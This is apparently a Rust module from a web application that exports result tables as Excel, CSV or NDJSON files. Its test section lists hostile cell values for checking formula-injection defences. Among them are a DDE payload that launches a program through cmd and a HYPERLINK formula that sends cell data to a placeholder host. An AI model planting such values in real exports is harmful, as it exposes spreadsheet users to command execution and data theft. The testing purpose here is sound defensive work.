//! The table of a round, and the audit log, as files that are written as they are read.

pub(crate) mod audit;
mod csv;
mod ndjson;
pub(crate) mod results;
mod xlsx;

use engine::results_table::{Column, Row};

use crate::error::Problem;
use crate::under_way::Held;
use crate::visit::Visit;

/// One more export for who asks, who may have only a few under way.
fn begin(visit: &Visit) -> Result<Held, Problem> {
    let person = visit.actor()?.person.id;
    visit.site.exports.begin(person).ok_or_else(Problem::too_many_exports)
}

/// The kinds of file there are.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Format {
    /// A workbook for Excel, LibreOffice and the like.
    Xlsx,
    /// Comma-separated values.
    Csv,
    /// One JSON object to a line.
    Ndjson,
}

impl Format {
    pub(crate) const ALL: [Self; 3] = [Self::Xlsx, Self::Csv, Self::Ndjson];

    /// The end of a file's name.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Xlsx => "xlsx",
            Self::Csv => "csv",
            Self::Ndjson => "ndjson",
        }
    }

    pub(crate) fn parse(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|it| it.name() == name)
    }

    pub(crate) fn media_type(self) -> &'static str {
        match self {
            Self::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            Self::Csv => "text/csv; charset=utf-8; header=present",
            Self::Ndjson => "application/x-ndjson",
        }
    }
}

/// A kind of file that can be sent while it is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Lines {
    Csv,
    Ndjson,
}

impl From<Lines> for Format {
    fn from(lines: Lines) -> Self {
        match lines {
            Lines::Csv => Self::Csv,
            Lines::Ndjson => Self::Ndjson,
        }
    }
}

impl Lines {
    /// What stands before the rows.
    pub(crate) fn head(self, columns: &[Column]) -> Result<Vec<u8>, Problem> {
        match self {
            Self::Csv => csv::head(columns),
            Self::Ndjson => Ok(Vec::new()),
        }
    }

    /// Some rows.
    pub(crate) fn rows(self, rows: &[Row]) -> Result<Vec<u8>, Problem> {
        match self {
            Self::Csv => csv::rows(rows),
            Self::Ndjson => ndjson::rows(rows),
        }
    }
}

#[cfg(test)]
pub(crate) mod samples {
    use chrono::DateTime;
    use engine::results_table::{Named, Row};

    /// What a spreadsheet could take for a formula, or a file for its own marks.
    pub(crate) const HOSTILE: &[&str] = &[
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "=HYPERLINK(\"https://a.example/?\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\r\n@x",
        " =1+1",
        "\u{a0}=1+1",
        "\"=1+1\"",
        "'=1+1",
        "''",
        "'",
        "\u{feff}=1+1",
        "\u{200b}+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "\u{2212}1",
        "\u{2018}=1",
        "«=1",
        "a,b;c\td",
        "a\n=1+1",
        "a\",=1+1,\"b",
        "</t></is></c><c><f>1+1</f></c>",
        "{=1+1}",
        "_x003D_1+1",
        "&#61;1+1",
        "https://a.example/",
        "Æblegård & Søn «Ø» A/S",
        "-",
        "=",
        "1.5",
        "TRUE",
        "2026-11-30",
        "007",
        "",
        "x\u{7}y\u{1}",
        "two  spaces ",
        "🧬 = ok",
    ];

    /// A row with `text` wherever words can stand.
    pub(crate) fn row(text: &str) -> Row {
        let at = DateTime::from_timestamp(1_790_000_000, 0).unwrap();
        let named = || Named { id: text.to_owned(), title: text.to_owned() };
        Row {
            id: text.to_owned(),
            subject: text.to_owned(),
            organisation: Some(text.to_owned()),
            number: Some(text.to_owned()),
            stage: named(),
            turn: 1,
            answered: 12,
            asked: 24,
            score: Some(59.25),
            points: Some(119),
            band: Some(named()),
            invited_at: at,
            changed_at: at,
            submitted_at: Some(at),
            reminded_at: None,
            locked_at: None,
            result: None,
        }
    }

    pub(crate) fn rows() -> Vec<Row> {
        HOSTILE.iter().map(|it| row(it)).collect()
    }
}
